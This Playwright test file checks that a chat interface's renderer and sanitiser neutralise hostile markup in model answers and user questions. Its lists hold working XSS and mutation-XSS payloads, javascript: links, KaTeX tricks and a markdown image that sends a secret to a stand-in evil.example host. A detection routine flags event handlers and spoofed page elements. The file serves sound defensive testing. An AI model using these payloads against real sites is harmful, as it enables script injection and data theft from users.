"""Whatever a model writes: nothing of it runs, loads, navigates or looks like a part of the page."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import ask
from tests.browser.stage import Stage

MARKUP = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(2)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<form action="/logout/" method="post"><button>Claim your prize</button></form>',
    "<input autofocus onfocus=alert(5)>",
    "<details open ontoggle=alert(6)><summary>x</summary></details>",
    "<object data=javascript:alert(7)></object><embed src=javascript:alert(7)>",
    "<math><mi xlink:href=javascript:alert(8)>click</mi></math>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<div style='position:fixed;inset:0' id=composer class=topbar>You were logged out</div>",
    "<b onclick=alert(9)>bold</b>",
    "<br><sub>fine</sub><kbd>Esc</kbd><script>alert(10)</script>",
    "<p>unclosed <script>alert(11)",
    "<!--><img src=x onerror=alert(12)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(13)>'></noscript>",
    "<template><script>alert(14)</script></template>",
    "&lt;script&gt;alert(15)&lt;/script&gt; &#x3c;img src=x onerror=alert(15)&#x3e;",
]
LINKS = [
    "[click](javascript:alert(20))",
    "[click](JaVaScRiPt&colon;alert(21))",
    "[click](&#106;avascript:alert(22))",
    "[click](<java\tscript:alert(23)>)",
    "[click](data:text/html,<script>alert(24)</script>)",
    "[click](vbscript:alert(25))",
    "[click](/logout/)",
    "[click](//evil.example/)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(26)>",
    '[click](https://good.example/ "onmouseover=alert(27)")',
    '[click](https://good.example/"onmouseover="alert(28))',
    "[ref]\n\n[ref]: javascript:alert(29)",
]
IMAGES = [
    "![secret](https://evil.example/?q=secret)",
    "![x](javascript:alert(30))",
    "![<img src=x onerror=alert(31)>](https://evil.example/x.png)",
    '![a](https://evil.example/x.png"onerror="alert(32))',
]
FORMULAS = [
    r"$\href{javascript:alert(40)}{x}$",
    r"$\url{javascript:alert(41)}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$\htmlStyle{position:fixed}{x}$ $\htmlId{composer}{x}$ $\htmlClass{topbar}{x}$ $\htmlData{x=y}{x}$",
    r"$$\text{<img src=x onerror=alert(42)>}$$",
    r"$\unknown{<img src=x onerror=alert(43)>}$",
    r"\(\text{</math><script>alert(44)</script>}\)",
    r"$\def\x{\x\x}\x$",
    r"$\rule{9999em}{9999em}$",
]
CODE = [
    "```html\n<script>alert(50)</script><img src=x onerror=alert(50)>\n```",
    '```"><img src=x onerror=alert(51)>\nx\n```',
    "```js topbar\nalert(52)\n```",
    "`<img src=x onerror=alert(53)>`",
    "    <img src=x onerror=alert(54)>",
]
TABLES = [
    "| <img src=x onerror=alert(60)> | b |\n|---|---|\n| <script>alert(60)</script> | [x](javascript:alert(60)) |"
]
EVERYTHING = MARKUP + LINKS + IMAGES + FORMULAS + CODE + TABLES

MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(70)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(71)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(72)>",
    "<math><annotation-xml encoding='text/html'><style><img src=1 onerror=alert(73)></style></annotation-xml></math>",
    "<noscript><style></noscript><img src=x onerror=alert(74)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(75)</script>'></foreignObject></svg>",
    "<a href='java\x01script:alert(76)' ping='https://evil.example' target=_self>x</a>",
    "<span class='topbar hljs-keyword dialog' style='position:fixed' id=main onclick=alert(77)>x</span>",
    "<img src=x onerror=alert(78)><video><source onerror=alert(78)></video>",
    "<a href='https://good.example' xlink:href='javascript:alert(79)'>x</a>",
]
"""Markup that turns into something else when it is parsed twice, and attributes to smuggle."""

FORBIDDEN = (
    "script, style, link, iframe, object, embed, form, input, img, svg, video, audio, base, meta, template, noscript, "
    "[style], [id], [name], [srcdoc], [src], [action], [formaction], [contenteditable]"
)
FAULTS = """
(root, forbidden) => [
  ...[...root.querySelectorAll(forbidden)].filter((node) => !node.closest("button")).map((node) => node.outerHTML),
  ...[...root.querySelectorAll("*")].flatMap((node) => [...node.attributes])
    .filter((attribute) => attribute.name.startsWith("on") || /script:|data:/i.test(attribute.value) && attribute.name !== "title")
    .map((attribute) => `${attribute.name}=${attribute.value}`),
  ...[...root.querySelectorAll("a[href]")].filter((link) => !/^(https?|mailto):/.test(link.getAttribute("href"))
    || link.rel !== "noopener noreferrer nofollow" || link.target !== "_blank").map((link) => link.outerHTML),
  ...[...root.querySelectorAll("[class]")].flatMap((node) => [...node.classList])
    .filter((name) => ["topbar", "dialog", "composer", "notice", "banner"].includes(name)),
]
"""


def faults(page: Page) -> list[str]:
    root = page.locator(".answer .words").last
    return list(root.evaluate(f"(root) => ({FAULTS})(root, {json.dumps(FORBIDDEN)})"))


def test_nothing_in_a_streamed_answer_runs_or_loads(stage: Stage, page: Page) -> None:
    """Token by token, so that every beginning of every attack is painted as the end of an answer too."""
    ask(page, "Attack me.")
    model = stage.answer()
    for number, attack in enumerate(EVERYTHING):
        text = f"\n\n{attack}\n\nattack {number} over\n"
        model.say(*[text[start : start + 7] for start in range(0, len(text), 7)])
    model.done()
    expect(page.locator(".answer")).to_have_attribute("aria-busy", "false")
    expect(page.locator(".answer .words")).to_contain_text(f"attack {len(EVERYTHING) - 1} over")
    expect(page.locator(".answer math").first).to_be_visible()
    assert faults(page) == []
    page.reload()
    expect(page.locator(".answer .words")).to_contain_text(f"attack {len(EVERYTHING) - 1} over")
    expect(page.locator(".answer math").first).to_be_visible()
    assert faults(page) == []


@pytest.mark.parametrize("live", [True, False], ids=["growing", "finished"])
def test_no_beginning_of_an_attack_does_harm(page: Page, live: bool) -> None:
    """Every prefix of every attack, alone, as a whole answer and as one that still grows."""
    found = page.evaluate(
        """async ([attacks, live, forbidden]) => {
          const { Prose } = await import("/static/js/chat/prose.js");
          const root = document.createElement("div");
          document.body.append(root);
          const check = FAULTS;
          const found = [];
          for (const attack of attacks) {
            for (let length = 1; length <= attack.length; length += 1) {
              root.replaceChildren();
              new Prose(root).show(attack.slice(0, length), live);
              found.push(...check(root, forbidden).map((fault) => `${attack.slice(0, length)}: ${fault}`));
            }
          }
          root.remove();
          return found;
        }""".replace("FAULTS", FAULTS),
        [EVERYTHING, live, FORBIDDEN],
    )
    assert found == []


@pytest.mark.parametrize("gate", ["prose", "highlighted", "formula"])
def test_each_gate_holds_alone(page: Page, gate: str) -> None:
    """The sanitiser gets what the Markdown renderer would have escaped: it is the second wall, and it must stand alone."""
    found = page.evaluate(
        """async ([attacks, gate, forbidden]) => {
          const sanitise = (await import("/static/js/chat/sanitize.js"))[gate];
          const root = document.createElement("div");
          document.body.append(root);
          const check = FAULTS;
          const found = attacks.flatMap((attack) => {
            root.replaceChildren(sanitise(attack));
            const once = check(root, forbidden);
            const html = root.innerHTML;
            root.innerHTML = html; // parsed a second time, as a mutation would need
            return [...once, ...check(root, forbidden)].map((fault) => `${attack}: ${fault}`);
          });
          root.remove();
          // The sanitiser reads the attack in a document where nothing runs or loads; the browser reports what it meets there.
          await new Promise((resolve) => setTimeout(resolve));
          window.violations = [];
          return found;
        }""".replace("FAULTS", FAULTS),
        [MARKUP + MUTATIONS, gate, FORBIDDEN],
    )
    assert found == []


def test_markup_is_shown_as_the_text_it_is(stage: Stage, page: Page) -> None:
    ask(page, "Write a page.")
    model = stage.answer()
    model.say("Use <button onclick=go()>Go</button> and H<sub>2</sub>O.\n\n<div>\n  raw\n</div>\n")
    model.done()
    words = page.locator(".answer .words")
    expect(words).to_contain_text("<button onclick=go()>Go</button>")
    expect(words).to_contain_text("<div>")
    expect(words.locator("sub")).to_have_text("2")


def test_a_hostile_question_and_its_title_stay_text(stage: Stage, page: Page) -> None:
    attack = "<img src=x onerror=alert(80)>"
    ask(page, attack)
    model = stage.answer()
    model.say("Nice try.", reasoning=True)
    model.say(attack)
    model.done()
    expect(page.locator(".answer")).to_have_attribute("aria-busy", "false")
    expect(page.locator("#title")).to_have_text(attack)
    expect(page.locator("#rows a").first).to_contain_text(attack)
    page.reload()
    expect(page.locator(".question .said")).to_have_text(attack)
    assert page.locator("main img, aside img").count() == 0
